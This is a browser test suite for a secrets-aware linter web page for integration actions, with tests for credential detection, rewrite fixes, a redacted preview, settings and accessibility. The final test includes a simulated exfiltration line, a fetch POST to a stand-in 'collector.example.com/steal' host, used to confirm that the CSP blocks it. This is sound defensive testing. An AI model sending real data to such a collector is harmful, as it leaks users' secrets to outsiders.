// Browser tests of the web page (real Chromium, the real wasm package).
// Rules these depend on: SEC001 (credentials issue) for the fix flows, ENV002 and the `env` naming
// (governance issue) for the settings tests, `preview` in the package (preview issue) for the
// preview test; the rest runs on the core as it is.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import {
  startHarness,
  randomAlnum,
  waitLinted,
  setText,
  getText,
  pasteIntoEditor,
  pageContent,
  tabTo,
  screenshot,
  accessibilityViolations,
} from './harness.mjs';

let harness;
before(async () => {
  harness = await startHarness();
});
after(async () => {
  await harness?.stop();
});

function guideAction(key) {
  return JSON.stringify(
    {
      type: 'http',
      name: 'POST_Order_Update',
      config: {
        method: 'POST',
        url: 'https://api.orderdesk.example.com/v1/orders',
        headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' },
        body: '{"orderId": "{{flow.orderId}}"}',
      },
    },
    null,
    2,
  );
}

function exportAction(basic) {
  return JSON.stringify(
    {
      name: 'Get Account Status - Exported 2024-05-06 @ 09:30',
      integrationType: 'custom-rest-actions',
      actionType: 'custom',
      config: {
        request: {
          requestUrlTemplate: 'https://billing.contoso.example.com/accounts/$esc.url(${input.accountId})',
          requestType: 'GET',
          headers: { Authorization: `Basic ${basic}`, Accept: 'application/json' },
          requestTemplate: '${input.rawRequest}',
        },
        response: { translationMap: { status: '$.status' }, successTemplate: '{"status": ${status}}' },
      },
      contract: {
        input: { inputSchema: { type: 'object', properties: { accountId: { type: 'string' } } } },
        output: { successSchema: { type: 'object', properties: { status: { type: 'string' } } } },
      },
      secure: false,
    },
    null,
    2,
  );
}

async function assertNowhere(page, secrets, where) {
  const content = await pageContent(page);
  const text = await getText(page);
  const preview = await page.getByTestId('preview').textContent();
  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  for (const secret of secrets) {
    assert.ok(!text.includes(secret), `${where}: the secret is still in the editor text`);
    assert.ok(!content.includes(secret), `${where}: the secret is in the page DOM`);
    assert.ok(!preview.includes(secret), `${where}: the secret is in the preview`);
    assert.ok(!stored.includes(secret), `${where}: the secret is in local storage`);
  }
}

/** Before a fix the editor holds the secret; the preview and the problem list never do. */
async function assertNotInPanels(page, secrets, where) {
  const panels = await page.evaluate(() =>
    ['preview', 'problems', 'provisioning'].map((id) => document.querySelector(`[data-testid="${id}"]`).textContent).join('\n'),
  );
  for (const secret of secrets) assert.ok(!panels.includes(secret), `${where}: the secret is shown outside the editor`);
}

async function noCspViolationsOrErrors(page, errors) {
  assert.deepEqual(await page.evaluate(() => window.__cspViolations), [], 'CSP violations');
  assert.deepEqual(errors, [], 'page errors');
}

test('a pasted guide-shape action with a literal key: SEC001, unsafe fix all → secureData(), the key is gone', async () => {
  const { page, context, errors } = await harness.newPage();
  const key = `sk_live_${randomAlnum(28)}`;
  await screenshot(page, '01-empty');
  await pasteIntoEditor(page, guideAction(key));
  assert.ok((await getText(page)).includes(key), 'the paste reached the editor');

  const row = page.locator('[data-testid="diagnostic"][data-code="SEC001"]');
  await row.first().waitFor();
  assert.equal(await row.count(), 1);
  assert.equal(await row.getAttribute('data-pointer'), '/config/headers/Authorization');
  assert.ok(!(await row.textContent()).includes(key), 'the message masks the key');
  assert.equal(await row.getByTestId('fix').count(), 1, 'SEC001 offers its rewrite');
  // The editor underlines it and marks the gutter.
  assert.ok((await page.locator('.cm-lintRange-error').count()) > 0, 'underline');
  assert.ok((await page.locator('.cm-lint-marker-error').count()) > 0, 'gutter marker');
  await screenshot(page, '02-guide-key-problems');

  // Without the unsafe switch, Fix all leaves the credential rewrite alone.
  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  assert.ok((await getText(page)).includes(key), 'unsafe rewrite held back while the switch is off');
  assert.match(await page.locator('#status').textContent(), /unsafe/i);

  await page.getByTestId('unsafe-fixes').check();
  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  const fixed = await getText(page);
  assert.match(fixed, /Bearer \{\{secureData\(\\"[a-z0-9_]+\\"\)\}\}/, 'the header now reads the key from Secure Data');
  assert.equal(await page.locator('[data-testid="diagnostic"][data-code="SEC001"]').count(), 0);
  await assertNowhere(page, [key], 'after fix all');
  await screenshot(page, '03-guide-key-fixed');

  // The payload is there only on explicit request, after a warning, and goes away again.
  const provisioning = page.getByTestId('provisioning');
  assert.match(await provisioning.textContent(), /secret.*taken out/i);
  await provisioning.getByRole('button', { name: /show payloads/i }).click();
  assert.ok((await provisioning.textContent()).includes(key), 'the revealed payload holds the secret value');
  await screenshot(page, '04-provisioning-revealed');
  await provisioning.getByRole('button', { name: /hide payloads/i }).click();
  await assertNowhere(page, [key], 'after hiding the payload');

  // Undo brings the key back (the editor's history), redo removes it again.
  await page.getByTestId('editor').click();
  await page.keyboard.press('Control+Z');
  await waitLinted(page);
  assert.ok((await getText(page)).includes(key), 'undo restores the original text');
  await page.keyboard.press('Control+Shift+Z');
  await waitLinted(page);
  assert.equal(await getText(page), fixed, 'redo re-applies the fix');
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('a real export with a Basic header: SEC001, rewrite target auto → ${credentials.…}, no secret left', async () => {
  const { page, context, errors } = await harness.newPage();
  const user = `svc-${randomAlnum(6).toLowerCase()}`;
  const password = `${randomAlnum(14)}!${randomAlnum(5)}`;
  const basic = Buffer.from(`${user}:${password}`).toString('base64');
  await setText(page, exportAction(basic));
  assert.equal(await page.getByTestId('rewrite-target').inputValue(), 'auto');
  const row = page.locator('[data-testid="diagnostic"][data-code="SEC001"]');
  await row.first().waitFor();
  assert.equal(await row.first().getAttribute('data-pointer'), '/config/request/headers/Authorization');
  await assertNotInPanels(page, [basic, password], 'before the fix (the message masks it)');

  await page.getByTestId('unsafe-fixes').check();
  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  const fixed = await getText(page);
  assert.match(fixed, /\$\{credentials\.[A-Za-z0-9_]+\}/, 'the rewrite uses integration credentials');
  assert.ok(!fixed.includes('secureData('), 'auto picks credentials for a Genesys export');
  assert.doesNotThrow(() => JSON.parse(fixed), 'the fixed export is still JSON');
  await assertNowhere(page, [basic, password], 'after fix all');
  await screenshot(page, '05-export-basic-fixed');
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('one fix applies only its diagnostic; Fix all applies safe fixes; unsafe ones wait for the switch; CRLF survives', async () => {
  const { page, context, errors } = await harness.newPage();
  const lines = [
    '{',
    '  "type": "http",',
    '  "name": "Get order",',
    '  "config": {',
    '    "method": "get",',
    '    "url": "https://api.example.com/orders",',
    '    "timeoutSeconds": "30",',
    '    "hedaers": {"Accept": "application/json"}',
    '  }',
    '}',
    '',
  ];
  const original = lines.join('\r\n');
  await page.locator('#file-input').setInputFiles([{ name: 'order.json', mimeType: 'application/json', buffer: Buffer.from(original) }]);
  await page.locator('#doc-tabs [role="tab"][aria-selected="true"]', { hasText: 'order.json' }).waitFor();
  await waitLinted(page);
  const rows = (code, pointer) => page.locator(`[data-testid="diagnostic"][data-code="${code}"][data-pointer="${pointer}"]`);
  assert.equal(await rows('SCH003', '/config/method').count(), 1);
  assert.equal(await rows('SCH003', '/config/timeoutSeconds').count(), 1);
  assert.equal(await rows('SCH004', '/config/hedaers').count(), 1);

  // One fix from the list: only the method changes.
  await rows('SCH003', '/config/method').getByTestId('fix').click();
  await waitLinted(page);
  let text = await getText(page);
  assert.ok(text.includes('"method": "GET"') && text.includes('"timeoutSeconds": "30"'), 'only that fix applied');
  assert.ok(!/(^|[^\r])\n/.test(text), 'CRLF line endings kept');
  assert.equal(await rows('SCH003', '/config/method').count(), 0);

  // The unsafe rename waits for the switch, from the list and from Fix all.
  const rename = rows('SCH004', '/config/hedaers').getByTestId('fix');
  assert.equal(await rename.getAttribute('aria-disabled'), 'true');
  await rename.click({ force: true }); // aria-disabled: still focusable, it explains instead
  assert.match(await page.locator('#status').textContent(), /unsafe/i);
  assert.equal(await getText(page), text, 'nothing changed');

  // The in-editor fix: hover the underline, use the tooltip's action.
  await page.getByTestId('editor').locator('.cm-lintRange-error').first().hover();
  const action = page.locator('.cm-tooltip-lint .cm-diagnosticAction').first();
  await action.waitFor();
  await screenshot(page, '10-editor-quick-fix');
  await action.click();
  await waitLinted(page);
  text = await getText(page);
  assert.ok(text.includes('"timeoutSeconds": 30,'), 'the tooltip action applied the fix');
  assert.equal(await rows('SCH003', '/config/timeoutSeconds').count(), 0);

  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  assert.ok((await getText(page)).includes('"hedaers"'), 'Fix all leaves unsafe fixes alone');
  assert.match(await page.locator('#status').textContent(), /1 unsafe fix held back/);

  await page.getByTestId('unsafe-fixes').check();
  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  text = await getText(page);
  assert.ok(text.includes('"headers": {"Accept"'), 'the unsafe rename applied');
  assert.equal(await page.getByTestId('diagnostic').count(), 0, 'nothing left');
  assert.ok(!/(^|[^\r])\n/.test(text), 'CRLF line endings kept through Fix all');
  const download = page.waitForEvent('download');
  await page.getByTestId('download').click();
  assert.equal(await readFile(await (await download).path(), 'utf8'), text);

  // Undo steps back through the fixes, one at a time.
  await page.locator('#undo').click();
  await waitLinted(page);
  assert.ok((await getText(page)).includes('"hedaers"'));
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('keyboard only: load a sample, allow unsafe fixes, fix from the list, undo, fix from the editor, read the rule docs', async () => {
  const { page, context, errors } = await harness.newPage();
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement.className), 'skip-link');

  await tabTo(page, '#sample-select');
  await page.keyboard.press('ArrowDown'); // the first sample: the guide-shape action with a static key
  assert.equal(await page.locator('#sample-select').inputValue(), 'guide-static-key');
  await tabTo(page, '#load-sample');
  await page.keyboard.press('Enter');
  await page.locator('[data-testid="diagnostic"][data-code="SEC001"]').first().waitFor();
  const original = await getText(page);

  await tabTo(page, '[data-testid="unsafe-fixes"]');
  await page.keyboard.press('Space');
  assert.equal(await page.getByTestId('unsafe-fixes').isChecked(), true);
  await tabTo(page, '[data-testid="diagnostic"][data-code="SEC001"] [data-testid="fix"]');
  await page.keyboard.press('Enter');
  await waitLinted(page);
  assert.match(await getText(page), /secureData\(/, 'the fix from the list applied');
  assert.equal(await page.locator('[data-testid="diagnostic"][data-code="SEC001"]').count(), 0);

  // Into the editor with the keyboard, undo; then jump from the list to the problem (Enter on its
  // location moves the cursor there) and use the in-editor quick fix (Ctrl+.).
  await tabTo(page, '[data-testid="editor"]', { shift: true });
  await page.keyboard.press('Control+Z');
  await waitLinted(page);
  assert.equal(await getText(page), original, 'undo restored the document');
  await tabTo(page, '[data-testid="diagnostic"][data-code="SEC001"] .goto');
  await page.keyboard.press('Enter');
  assert.equal(await page.evaluate(() => document.activeElement.dataset.testid), 'editor', 'the jump focuses the editor');
  await page.keyboard.press('Control+.');
  await waitLinted(page);
  assert.match(await getText(page), /secureData\(/, 'the quick fix at the cursor applied');

  // Rule docs: a code link opens the bundled documentation; Escape closes it.
  await page.keyboard.press('Control+Z');
  await waitLinted(page);
  await tabTo(page, '[data-testid="diagnostic"][data-code="SEC001"] a.code');
  await page.keyboard.press('Enter');
  const dialog = page.locator('#rule-dialog');
  await dialog.waitFor({ state: 'visible' });
  assert.match(await dialog.textContent(), /SEC001/);
  assert.match(await dialog.textContent(), /What it does/);
  await screenshot(page, '06-rule-docs');
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('samples, several documents, open and drop files, download and copy the fixed file', async () => {
  const { page, context, errors } = await harness.newPage();
  for (const id of ['guide-static-key', 'export-basic-auth', 'clean']) {
    await page.locator('#sample-select').selectOption(id);
    await page.locator('#load-sample').click();
    await waitLinted(page);
  }
  assert.equal(await page.locator('#doc-tabs [role="tab"]').count(), 4, 'untitled + three samples');
  // The clean sample has no problem.
  assert.equal(await page.getByTestId('diagnostic').count(), 0, 'the clean sample is clean');
  assert.match(await page.locator('#problems').textContent(), /No problems/);

  // Open two files at once (one with a BOM and CRLF line endings), then drop one.
  const crlf = '\ufeff{\r\n  "type": "http",\r\n  "name": "x",\r\n  "config": {"method": "GET", "url": "https://api.example.com/v1/ping"}\r\n}\r\n';
  await page.locator('#file-input').setInputFiles([
    { name: 'one.json', mimeType: 'application/json', buffer: Buffer.from('{"not": "an action"}') },
    { name: 'two.json', mimeType: 'application/json', buffer: Buffer.from(crlf) },
  ]);
  // Files are read asynchronously: wait for the last one's tab.
  await page.locator('#doc-tabs [role="tab"][aria-selected="true"]', { hasText: 'two.json' }).waitFor();
  await waitLinted(page);
  assert.equal(await page.locator('#doc-tabs [role="tab"]').count(), 6);
  assert.match(await page.locator('#doc-tabs [role="tab"][aria-selected="true"]').textContent(), /^two\.json/);
  assert.equal(await getText(page), crlf.slice(1), 'CRLF kept, BOM hidden from the editor');
  const download = page.waitForEvent('download');
  await page.getByTestId('download').click();
  const file = await download;
  assert.equal(file.suggestedFilename(), 'two.json');
  assert.equal(await readFile(await file.path(), 'utf8'), crlf, 'the download keeps BOM and CRLF');

  await page.locator('#doc-tabs [role="tab"]', { hasText: 'one.json' }).click();
  await waitLinted(page);
  assert.equal(await page.locator('[data-testid="diagnostic"]').first().getAttribute('data-code'), 'SCH001');

  await page.evaluate(() => {
    const data = new DataTransfer();
    data.items.add(new File(['{"type": "http", "name": "dropped", "config": {"method": "GET", "url": "https://a.example.com/"}}'], 'dropped.json', { type: 'application/json' }));
    const target = document.getElementById('editor-region');
    target.dispatchEvent(new DragEvent('dragover', { dataTransfer: data, bubbles: true, cancelable: true }));
    target.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));
  });
  await page.locator('#doc-tabs [role="tab"][aria-selected="true"]', { hasText: 'dropped.json' }).waitFor();
  await waitLinted(page);

  // The file name is the linter's `fileName`: a .jsonc document may hold comments, a .json one not.
  const commented = '{\n  // exported by hand\n  "type": "http", "name": "c", "config": {"method": "GET", "url": "https://a.example.com/"},\n}\n';
  await page.locator('#file-input').setInputFiles([
    { name: 'commented.jsonc', mimeType: 'application/json', buffer: Buffer.from(commented) },
    { name: 'commented.json', mimeType: 'application/json', buffer: Buffer.from(commented) },
  ]);
  await page.locator('#doc-tabs [role="tab"][aria-selected="true"]', { hasText: /^commented\.json/ }).waitFor();
  await waitLinted(page);
  assert.equal(await page.locator('[data-testid="diagnostic"][data-code="PAR001"]').count(), 1, '.json: comments are a syntax error');
  await page.locator('#doc-tabs [role="tab"]', { hasText: 'commented.jsonc' }).click();
  await waitLinted(page);
  assert.equal(await page.locator('[data-testid="diagnostic"][data-code="PAR001"]').count(), 0, '.jsonc: comments allowed');

  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: harness.origin });
  await page.locator('#copy-text').click();
  await page.locator('#status', { hasText: 'Copied' }).waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), await getText(page));
  await screenshot(page, '07-several-documents');
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('settings persist in local storage (never documents), and the options reach the linter', async () => {
  const { page, context, errors } = await harness.newPage();
  await page.getByTestId('environment').fill('dev');
  await page.getByTestId('environment').blur();
  await page.getByTestId('rewrite-target').selectOption('secureData');
  await page.locator('#naming-pattern').fill('{service}_{kind}_{env}');
  await page.locator('#naming-pattern').blur();
  await page.getByTestId('inventory').fill('["partner_api_key_prod", "crm_token_dev"]');
  await page.getByTestId('inventory').blur();
  await page.locator('#sample-select').selectOption('guide-static-key');
  await page.locator('#load-sample').click();
  await waitLinted(page);
  await page.waitForFunction(() => JSON.parse(localStorage.getItem('dalint.settings') ?? '{}').env === 'dev');
  const stored = JSON.parse(await page.evaluate(() => localStorage.getItem('dalint.settings')));
  assert.deepEqual(
    { env: stored.env, rewriteTarget: stored.rewriteTarget, inventory: stored.inventory },
    { env: 'dev', rewriteTarget: 'secureData', inventory: ['partner_api_key_prod', 'crm_token_dev'] },
  );
  const everything = await page.evaluate(() => JSON.stringify({ ...localStorage }));
  assert.ok(!everything.includes('POST_Shipment_Notice'), 'no document text in storage');
  assert.equal(await page.getByTestId('inventory').inputValue(), 'partner_api_key_prod\ncrm_token_dev');

  await page.reload();
  await page.waitForSelector('html[data-ready="true"]');
  assert.equal(await page.getByTestId('environment').inputValue(), 'dev');
  assert.equal(await page.getByTestId('rewrite-target').inputValue(), 'secureData');
  assert.equal(await getText(page), '', 'documents are not restored');

  // The persisted options reach the linter: the clean sample's reference is not in the inventory
  // (ENV002, governance rules).
  await page.locator('#sample-select').selectOption('clean');
  await page.locator('#load-sample').click();
  await waitLinted(page);
  const missing = page.locator('[data-testid="diagnostic"][data-code="ENV002"]');
  assert.equal(await missing.count(), 1);
  assert.equal(await missing.getAttribute('data-pointer'), '/config/headers/Authorization');

  // Rule levels: the configuration's `rules`, set per rule in the Rules list, persisted too.
  await setText(page, '{"compilerOptions": {"strict": true}}');
  const notAnAction = page.locator('[data-testid="diagnostic"][data-code="SCH001"]');
  assert.equal(await notAnAction.locator('.severity').textContent(), 'info');
  await page.locator('#level-SCH001').selectOption('error');
  await waitLinted(page);
  assert.equal(await notAnAction.locator('.severity').textContent(), 'error');
  await page.locator('#level-SCH001').selectOption('off');
  await waitLinted(page);
  assert.equal(await notAnAction.count(), 0);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: harness.origin });
  await page.locator('#copy-config').click();
  await page.locator('#status', { hasText: 'dalint.json' }).waitFor();
  const config = JSON.parse(await page.evaluate(() => navigator.clipboard.readText()));
  assert.deepEqual(config.rules, { SCH001: 'off' });
  assert.equal(config.env, 'dev');
  assert.equal(config.rewriteTarget, 'secureData');
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('dev environment: the rewrite names a sandbox_ secret (credentials rule + environment option)', async () => {
  const { page, context, errors } = await harness.newPage();
  await page.getByTestId('environment').fill('dev');
  await page.getByTestId('environment').blur();
  const key = `sk_live_${randomAlnum(28)}`;
  await setText(page, guideAction(key));
  await page.getByTestId('unsafe-fixes').check();
  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  assert.match(await getText(page), /secureData\(\\"sandbox_[a-z0-9_]+_dev\\"\)/);
  await assertNowhere(page, [key], 'dev rewrite');
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('redacted preview of the action under the cursor, with editable sample inputs', async () => {
  const { page, context, errors } = await harness.newPage();
  const user = `svc-${randomAlnum(6).toLowerCase()}`;
  const password = randomAlnum(20);
  const basic = Buffer.from(`${user}:${password}`).toString('base64');
  await setText(page, exportAction(basic));
  const preview = page.getByTestId('preview');
  await preview.locator('pre').waitFor();
  const http = await preview.locator('pre').textContent();
  assert.match(http, /^GET https:\/\/billing\.contoso\.example\.com\/accounts\//m);
  assert.match(http, /^Authorization: Basic ‹secret sha256:[0-9a-f]{16}›$/m);
  await assertNotInPanels(page, [basic, password], 'preview of a literal secret');

  await preview.getByRole('tab', { name: 'curl' }).click();
  assert.match(await preview.locator('pre').textContent(), /^curl -X GET 'https:\/\/billing/m);
  await preview.getByRole('tab', { name: 'JSON' }).click();
  assert.equal(JSON.parse(await preview.locator('pre').textContent()).method, 'GET');
  await preview.getByRole('tab', { name: 'HTTP' }).click();

  // Typing survives a re-render (the document re-linted meanwhile) before it is committed.
  await preview.locator('[data-input="accountId"]').fill('ACME-42');
  await page.evaluate(() => { document.querySelector('[data-testid="preview"] pre').dataset.stale = 'yes'; });
  await setText(page, exportAction(basic).replace('"GET"', '"GET" '));
  await page.waitForFunction(() => !document.querySelector('[data-testid="preview"] pre')?.dataset.stale);
  assert.equal(await preview.locator('[data-input="accountId"]').inputValue(), 'ACME-42');
  await preview.locator('[data-input="accountId"]').press('Enter');
  await preview.locator('[data-input="accountId"]').blur();
  await page.waitForFunction(() => document.querySelector('[data-testid="preview"] pre')?.textContent.includes('ACME-42'));

  // A sample response runs the translation map and the successTemplate.
  await preview.locator('[data-response]').fill('{"status": "active", "plan": "gold"}');
  await preview.locator('[data-response]').blur();
  await page.waitForFunction(() => document.querySelector('[data-testid="preview"] pre')?.textContent.includes('## response'));
  assert.match(await preview.locator('pre').textContent(), /"status": ?"active"/);
  await screenshot(page, '08-preview');

  await page.getByTestId('unsafe-fixes').check();
  await page.getByTestId('fix-all').click();
  await waitLinted(page);
  assert.match(await preview.locator('pre').textContent(), /‹credentials\.[A-Za-z0-9_]+›/);
  await assertNowhere(page, [basic, password], 'preview after the rewrite');

  // A list of actions: the preview follows the cursor (here moved by a problem's location).
  const second = JSON.parse(exportAction(basic));
  second.name = 'Second Action - Exported 2024-05-07 @ 10:00';
  second.config.request.requestType = 'get';
  await setText(page, JSON.stringify({ entities: [JSON.parse(exportAction('x')), second], pageSize: 25 }, null, 2));
  await preview.locator('pre').waitFor();
  assert.match(await preview.locator('pre').textContent(), /Get Account Status/);
  await page.locator('[data-testid="diagnostic"][data-pointer="/entities/1/config/request/requestType"] .goto').click();
  await page.waitForFunction(() => document.querySelector('[data-testid="preview"] pre')?.textContent.includes('Second Action'));
  assert.match(await page.locator('#preview-target').textContent(), /\/entities\/1/);
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('pasted Terraform: a variable in an Authorization header is SEC009, and the preview shows it as a marker', async () => {
  const { page, context, errors } = await harness.newPage();
  const tf = [
    'resource "genesyscloud_integration_action" "create_ticket" {',
    '  name           = "Create ticket"',
    '  category       = "CRM"',
    '  integration_id = var.integration_id',
    '  contract_input  = jsonencode({ "type" = "object", "properties" = {} })',
    '  contract_output = jsonencode({ "type" = "object", "properties" = {} })',
    '  config_request {',
    '    request_url_template = "https://crm.example.com/tickets"',
    '    request_type         = "POST"',
    '    request_template     = "$${input.rawRequest}"',
    '    headers = {',
    '      Authorization = "Bearer ${var.bearer_token}"',
    '    }',
    '  }',
    '  config_response {',
    '    translation_map          = {}',
    '    translation_map_defaults = {}',
    '    success_template         = "$${rawResult}"',
    '  }',
    '}',
    '',
  ].join('\n');
  await pasteIntoEditor(page, tf);
  const pointer = '/resource/genesyscloud_integration_action/create_ticket/config_request/headers/Authorization';
  await page.locator(`[data-testid="diagnostic"][data-code="SEC009"][data-pointer="${pointer}"]`).waitFor();
  const preview = page.getByTestId('preview');
  await preview.locator('pre').waitFor();
  await page.waitForFunction(() => document.querySelector('[data-testid="preview"] pre')?.textContent.includes('‹var.'));
  assert.match(await preview.locator('pre').textContent(), /^Authorization: .*‹var\.bearer_token›/m);
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('pasted Terraform JSON syntax (.tf.json): the same SEC009 at the same pointer, and the fix rewrites the JSON', async () => {
  const { page, context, errors } = await harness.newPage();
  const tfJson = JSON.stringify({
    resource: {
      genesyscloud_integration_action: {
        create_ticket: {
          name: 'Create ticket',
          category: 'CRM',
          integration_id: '${var.integration_id}',
          contract_input: '${jsonencode({"type" = "object", "properties" = {}})}',
          contract_output: '${jsonencode({"type" = "object", "properties" = {}})}',
          config_request: {
            request_url_template: 'https://crm.example.com/tickets',
            request_type: 'POST',
            request_template: '$${input.rawRequest}',
            headers: { Authorization: 'Bearer ${var.bearer_token}' },
          },
          config_response: { translation_map: {}, translation_map_defaults: {}, success_template: '$${rawResult}' },
        },
      },
    },
  }, null, 2);
  await pasteIntoEditor(page, tfJson);
  const pointer = '/resource/genesyscloud_integration_action/create_ticket/config_request/headers/Authorization';
  const row = page.locator(`[data-testid="diagnostic"][data-code="SEC009"][data-pointer="${pointer}"]`);
  await row.waitFor();
  await page.waitForFunction(() => document.querySelector('[data-testid="preview"] pre')?.textContent.includes('‹var.'));
  assert.match(await page.getByTestId('preview').locator('pre').textContent(), /^Authorization: .*‹var\.bearer_token›/m);
  await page.getByTestId('unsafe-fixes').check();
  await row.getByTestId('fix').click();
  await page.locator(`[data-testid="diagnostic"][data-code="SEC009"]`).waitFor({ state: 'detached' });
  const fixed = await getText(page);
  assert.ok(fixed.includes('"Bearer $${credentials.bearer_token}"') && !fixed.includes('${var.bearer_token}'), fixed);
  JSON.parse(fixed);
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('dark theme (system preference and toggle) renders, and the theme choice persists', async () => {
  const { page, context, errors } = await harness.newPage({ colorScheme: 'dark' });
  await page.locator('#sample-select').selectOption('guide-static-key');
  await page.locator('#load-sample').click();
  await waitLinted(page);
  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(await background(), 'rgb(13, 17, 23)', 'follows prefers-color-scheme: dark');
  await screenshot(page, '09-dark');
  await page.locator('#theme-toggle').click(); // system → light
  assert.equal(await background(), 'rgb(255, 255, 255)');
  await page.reload();
  await page.waitForSelector('html[data-ready="true"]');
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'light');
  await noCspViolationsOrErrors(page, errors);
  await context.close();
});

test('accessibility: axe-core finds no WCAG A/AA violation (contrast included) in light and dark, with problems listed and docs open', async () => {
  for (const colorScheme of ['light', 'dark']) {
    const { page, context } = await harness.newPage({ colorScheme });
    await page.locator('#file-input').setInputFiles([
      { name: 'order.json', mimeType: 'application/json', buffer: Buffer.from('{"type": "http", "name": "Get order", "config": {"method": "get", "url": "https://api.example.com/orders", "timeoutSeconds": "30", "hedaers": {}}}') },
    ]);
    await page.locator('#doc-tabs [role="tab"][aria-selected="true"]', { hasText: 'order.json' }).waitFor();
    await waitLinted(page);
    assert.ok((await page.getByTestId('diagnostic').count()) >= 2);
    assert.deepEqual(await accessibilityViolations(page), [], `${colorScheme}: page with problems`);
    await page.getByTestId('diagnostic').first().locator('a.code').click();
    await page.locator('#rule-dialog').waitFor({ state: 'visible' });
    assert.deepEqual(await accessibilityViolations(page), [], `${colorScheme}: rule docs dialog`);
    await context.close();
  }
});

test('the page contacts nothing but its own origin, and its CSP blocks any attempt', async () => {
  const { page, context } = await harness.newPage();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
  assert.match(csp, /connect-src 'self'/);
  assert.match(await page.locator('#privacy').textContent(), /Nothing you paste leaves this page/);
  const before = harness.foreign.length;
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://collector.example.com/steal', { method: 'POST', body: 'x' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  assert.equal(outcome, 'blocked');
  assert.ok((await page.evaluate(() => window.__cspViolations)).some((v) => v.startsWith('connect-src')), 'the CSP blocked it');
  assert.equal(harness.foreign.length, before, 'the blocked request never reached the network layer');
  await context.close();
  // Over every test in this file: every request stayed on the page's own origin.
  assert.ok(harness.requests.length > 0);
  assert.deepEqual(harness.foreign, [], 'requests to other origins');
});
